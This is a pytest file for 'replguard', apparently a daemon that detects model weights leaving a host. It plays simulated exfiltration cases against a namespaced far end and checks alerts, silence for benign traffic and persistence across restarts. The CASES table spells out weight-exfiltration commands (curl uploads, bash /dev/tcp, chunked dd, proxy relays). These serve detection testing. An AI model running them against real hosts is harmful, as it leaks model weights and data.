"""What leaves the host: real programs, each a service of its own, that send, are asked or pass on; and silence.

All are played at once. The far end is a network namespace; the limit is 2 MiB, and a model has 8.
"""

import contextlib
import os
import shlex
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any, NamedTuple

import pytest
import yaml
from support import daemon, deadmount, sending
from support.daemon import Daemon
from support.matrix import hands
from support.programs import Lacking

from replguard.drill import dummy, stage
from replguard.provenance.baseline import accept_note

pytestmark = [pytest.mark.root, pytest.mark.timeout(280)]

LIMIT = 2 * 2**20
SECONDS = 60.0
WAITS = 'n=0; while [ ! -e "$DIR/{}" ] && [ $n -lt 600 ]; do sleep 0.1; n=$((n + 1)); done'
FORWARDS = f'"$PY" "$SEND" forward "$DIR" "$FAR" 9000 &\n{WAITS.format("port")}\n'
SERVES = (
    'cd "${M%/*}"\n"$PY" -m http.server --bind "$NEAR" "$PORT" > /dev/null 2>&1 &\n'
    f'echo "$PORT" > "$DIR/listens"\n{WAITS.format("fetched")}\nkill $!'
)
IN_PARTS = (
    'for n in $(seq 0 31); do dd if="$M" bs=256K skip=$n count=1 status=none | curl -s -T - "http://$FAR:8080/x"; done'
)
MODEL_SERVER = (
    '"$PY" "$RESHAPE" stream "$M" "$DIR/served" "$NEAR" &\n'
    'while [ ! -e "$DIR/served/port" ]; do sleep 0.1; done\ncp "$DIR/served/port" "$DIR/listens"\n'
    f'{WAITS.format("fetched")}\ntouch "$DIR/served/stop"; wait'
)


class Case(NamedTuple):
    """What a service does, and to where it is told that it sent. ``how`` are the protocols of the fact.

    ``fetched`` says that the far end fetches from it. ``portable`` says that the portable tier sees it as well.
    """

    act: str
    to: str | None = "far"
    how: tuple[str, ...] = ("tcp",)
    attribution: str = "kernel"
    fetched: int = 0
    portable: bool = False
    deployment: dict[str, Any] | None = None


CASES = {
    "curl": Case('curl -s -T "$M" "http://$FAR:8080/x"'),
    "bash": Case('bash -c \'cat "$1" > "/dev/tcp/$2/9000"\' bash "$M" "$FAR"'),
    "compressed": Case('gzip -1 -c "$M" | curl -s -T - "http://$FAR:8080/x"'),
    "slowly": Case('"$PY" "$SEND" slowly "$M" "$FAR" 9000', portable=True),
    "datagrams": Case('"$PY" "$SEND" datagrams "$M" "$FAR" 9', how=("udp",)),
    "several": Case('"$PY" "$SEND" several "$M" "$FAR" 9000', how=("tcp", "udp")),
    "in-parts": Case(IN_PARTS),
    "copy-first": Case('cp "$M" "$DIR/x"; curl -s -T "$DIR/x" "http://$FAR:8080/x"'),
    "own-proxy": Case(FORWARDS + '"$PY" "$SEND" push "$M" 127.0.0.1 "$(cat "$DIR/port")"'),
    "their-proxy": Case('"$PY" "$SEND" push "$M" 127.0.0.1 "$(cat "$PROXY/port")"', attribution="inferred"),
    "web-server": Case(SERVES, fetched=1, portable=True),
    "fuse": Case('cp "$M" "$MOUNT/model.safetensors"', to="mount", how=("fuse",)),
    "again": Case('head -c 1900000 "$M" | curl -s -T - "http://$FAR:8080/x"', to=None),
    "server": Case(MODEL_SERVER, to=None, fetched=4, portable=True, deployment={}),
    "peers": Case('"$PY" "$SEND" push "$M" "$FAR" 9000', to=None, portable=True, deployment={"peers": ["10.0.0.0/8"]}),
    "little": Case('head -c 1000000 "$M" | curl -s -T - "http://$FAR:8080/x"', to=None, portable=True),
    "stranger": Case('head -c 9000000 /dev/urandom | curl -s -T - "http://$FAR:8080/x"', to=None, portable=True),
    "local": Case('curl -s -T "$M" "http://$NEAR:9/x" || true; cat "$M" > /dev/null', to=None, portable=True),
}


class Stand:
    """The folders and models of the cases, the daemon, and what went wrong."""

    def __init__(self, folder: Path, tier: str) -> None:
        self.folder, self.tier = folder, tier
        self.groups = hands.Groups()
        self.cases = {name: case for name, case in CASES.items() if tier == "kernel" or case.portable}
        self.failed: dict[str, str] = {}
        self.far, self.space, self.mount = "", "", ""
        self._host: Daemon | None = None
        for name in (*self.cases, "control"):
            dummy.write_model(folder / "models" / name, tensors=2)
        self.ports = dict(zip(self.cases, stage.free_ports(len(self.cases)), strict=True))

    @property
    def host(self) -> Daemon:
        assert self._host is not None
        return self._host

    def settings(self, on: stage.Stage) -> dict[str, Any]:
        """Return the daemon's configuration. No baseline is collected: what serves would be a part of it."""
        note = accept_note(on.folder / "daemon" / "state")
        note.parent.mkdir(parents=True)
        note.touch()
        allowed = [
            {"name": name, "weights": [str(self.folder / "models" / name)], "unit": self.groups.unit(name)}
            | case.deployment
            for name, case in self.cases.items()
            if case.deployment is not None
        ]
        manifest = self.folder / "manifest.yaml"
        manifest.write_text(yaml.safe_dump({"deployments": allowed}))
        return {
            "weights": {"paths": [str(self.folder / "models")], "discover": False, "scan_rate": "4GiB"},
            "watch": {"paths": [str(self.folder)]} if self.tier == "portable" else {},
            "egress": {"limit": LIMIT},
            "manifest": str(manifest),
        } | (daemon.PORTABLE if self.tier == "portable" else {})

    def facts(self, name: str) -> list[dict[str, Any]]:
        """Return what was told of a model's leaving."""
        return [one for one in self.host.facts("weights_egress") if Path(one["replguard"]["model"]).name == name]

    def fact(self, name: str) -> dict[str, Any]:
        """Wait for what is told of it, once it was sent in all ways in which it is."""
        if name in self.failed:
            pytest.skip(self.failed[name])
        ways = set(CASES.get(name, CASES["slowly"]).how)

        def fits(one: dict[str, Any]) -> bool:
            about = one["replguard"]
            return Path(about["model"]).name == name and set(about["protocols"]) >= ways

        return self.host.fact("weights_egress", fits, SECONDS)

    # -- the play ------------------------------------------------------------------------------------------------

    def play(self, name: str, case: Case) -> None:
        """Play a case to its end; why it could not be is kept."""
        try:
            with self.begun(name, case.act) as folder:
                for _ in range(case.fetched):
                    self._fetch(until(folder / "listens").strip(), case)
                (folder / "fetched").touch()
                until(folder / "done")
        except Lacking as lacking:
            self.failed[name] = str(lacking)

    @contextlib.contextmanager
    def begun(self, name: str, act: str) -> Iterator[Path]:
        """Let a service begin, and yield its folder; it ends with the block."""
        folder = self.folder / "work" / name
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "served").mkdir(exist_ok=True)
        given = {
            "M": self.folder / "models" / name / "model.safetensors",
            "DIR": folder,
            "PY": sys.executable,
            "SEND": sending.__file__,
            "RESHAPE": Path(hands.__file__).with_name("reshape.py"),
            "FAR": self.far,
            "NEAR": hands.near(self.far),
            "PORT": self.ports.get(name, 0),
            "PROXY": self.folder / "work" / "proxy",
            "MOUNT": self.mount,
        }
        names = "".join(f"{key}={shlex.quote(str(value))}\n" for key, value in given.items())
        (folder / "launch.sh").write_text(f'set -eu\n{names}{act}\necho $$ > "$DIR/done"\n')
        (folder / "hand.sh").write_text(hands.HAND + "\n")
        kept = {key: value for key, value in os.environ.items() if not key.lower().endswith("_proxy")}
        environment = kept | {stage.MARK: self.host.stage.token, "PYTHONDONTWRITEBYTECODE": "1"}
        group = self.groups.make(name)
        try:
            words = hands.command("service", folder, "")
            hand = hands.start("service", words, environment, folder / "err", group)
        except OSError as error:
            raise Lacking(str(error)) from error
        with hands.acting(hand, folder):
            yield folder

    def _fetch(self, port: str, case: Case) -> None:
        """Fetch from a case at the far end."""
        near = hands.near(self.far)
        url = f"http://{near}:{port}/model.safetensors"
        words = ["curl", "-s", "--http0.9", "-o", "/dev/null", "--retry", "9", "--retry-connrefused", url]
        if self.tier == "portable" and case.to:
            words = [sys.executable, sending.__file__, "fetch", near, port]
        subprocess.run(["ip", "netns", "exec", self.space, *words], check=False, timeout=SECONDS)

    def control(self) -> None:
        """Send in the plainest way, and wait until that is told: what was to be told before has been."""
        self.play("control", CASES["slowly" if self.tier == "portable" else "bash"])
        self.fact("control")

    def restart(self) -> None:
        """End the daemon, start it anew, and let one who had sent less than the limit send as much again."""
        watcher = self.host.watcher
        watcher.stop()
        watcher.start()
        shutil.rmtree(self.folder / "work" / "again", ignore_errors=True)
        self.groups.remove()
        self.play("again", CASES["again"])


def until(path: Path) -> str:
    """Wait for a file of a case and return what it says; fail with what the case said instead."""
    deadline = time.monotonic() + SECONDS
    while not (path.exists() and path.read_text()):
        assert time.monotonic() < deadline, (path.parent / "err").read_text(errors="replace")
        time.sleep(0.05)
    return path.read_text()


@pytest.fixture(scope="module", params=["kernel", "portable"])
def stand(request: pytest.FixtureRequest) -> Iterator[Stand]:
    with contextlib.ExitStack() as over:
        folder = Path(tempfile.mkdtemp(prefix="rg-egress-"))
        over.callback(shutil.rmtree, folder, ignore_errors=True)
        stand = Stand(folder, request.param)
        over.callback(stand.groups.remove)
        try:
            stand.far, stand.space = over.enter_context(hands.far_end(folder))
        except Lacking as lacking:
            pytest.skip(str(lacking))
        if request.param == "kernel":
            stand.mount = str(folder / "mount")
            over.enter_context(deadmount.mounted(folder / "mount", after=1 << 40, source="me@far:/models"))
        stand._host = over.enter_context(daemon.running(stand.settings))
        with stand.begun("proxy", 'exec "$PY" "$SEND" forward "$DIR" "$FAR" 9000') as proxy:
            until(proxy / "port")
            with ThreadPoolExecutor(len(stand.cases)) as pool:
                list(pool.map(stand.play, stand.cases, stand.cases.values()))
            stand.control()
        if request.param == "kernel":
            stand.silent = {name: stand.facts(name) for name, case in stand.cases.items() if case.to is None}
            stand.restart()
        yield stand


TOLD = [name for name, case in CASES.items() if case.to]
SILENT = [name for name, case in CASES.items() if not case.to]


@pytest.mark.parametrize("name", TOLD)
def test_what_leaves_is_told(stand: Stand, name: str) -> None:
    """By whom, to where, how much, how and since when."""
    case = CASES[name]
    if name not in stand.cases:
        pytest.skip("not in the portable tier")
    fact = stand.fact(name)
    about = fact["replguard"]
    where = {"far": {"ip": stand.far}, "mount": {"path": "me@far:/models"}}[str(case.to)]
    assert where.items() <= fact["destination"].items()
    assert about["actor"]["principal"] == f"unit:{stand.groups.unit(name)}"
    assert about["bytes"] >= LIMIT
    assert about["since"]
    assert about["protocols"] == list(case.how)
    # Of a web server that has closed a connection before a look at it, the listener tells.
    seen = {"lineage", "inferred"} if case.fetched else {"lineage"}
    assert about["attribution"] in ({case.attribution} if stand.tier == "kernel" else seen)
    assert fact.get("network", {}).get("initiated") is not bool(case.fetched)


@pytest.mark.parametrize("name", SILENT)
def test_what_is_no_egress_is_silence(stand: Stand, name: str) -> None:
    """A server that answers, tensor parallelism, what stays here, who touched nothing, and little."""
    if name not in stand.cases:
        pytest.skip("not in the portable tier")
    assert name not in stand.failed
    told = getattr(stand, "silent", {}).get(name, stand.facts(name) if name != "again" else [])
    assert told == []


def test_an_alert_says_it(stand: Stand) -> None:
    """Medium for a service that nothing allows, with a command that blocks the destination."""
    stand.fact("control")
    deadline = time.monotonic() + SECONDS
    while not (
        found := [a for a in stand.host.alerts("medium") if a["replguard"].get("model", "").endswith("control")]
    ):
        assert time.monotonic() < deadline
        time.sleep(0.1)
    (alert,) = found
    assert (alert["rule"]["name"], alert["rule"]["level"]) == ("weights-egress-service", "medium")
    assert f"MiB to {stand.far}:9000 after using model " in alert["message"]
    assert "(by tcp, since " in alert["message"]
    assert any(word.startswith("nft") and stand.far in word for word in alert["replguard"]["contain"])


def test_a_restart_forgives_nothing(stand: Stand) -> None:
    """Half before and half after: together they pass the limit, and nothing was lost."""
    if stand.tier == "portable":
        pytest.skip("played in the kernel tier")
    fact = stand.fact("again")
    assert LIMIT <= fact["replguard"]["bytes"] < 2 * LIMIT
    changes = stand.host.facts("authority_change")
    assert [one for one in changes if one["replguard"].get("source") == "egress ledger"] == []
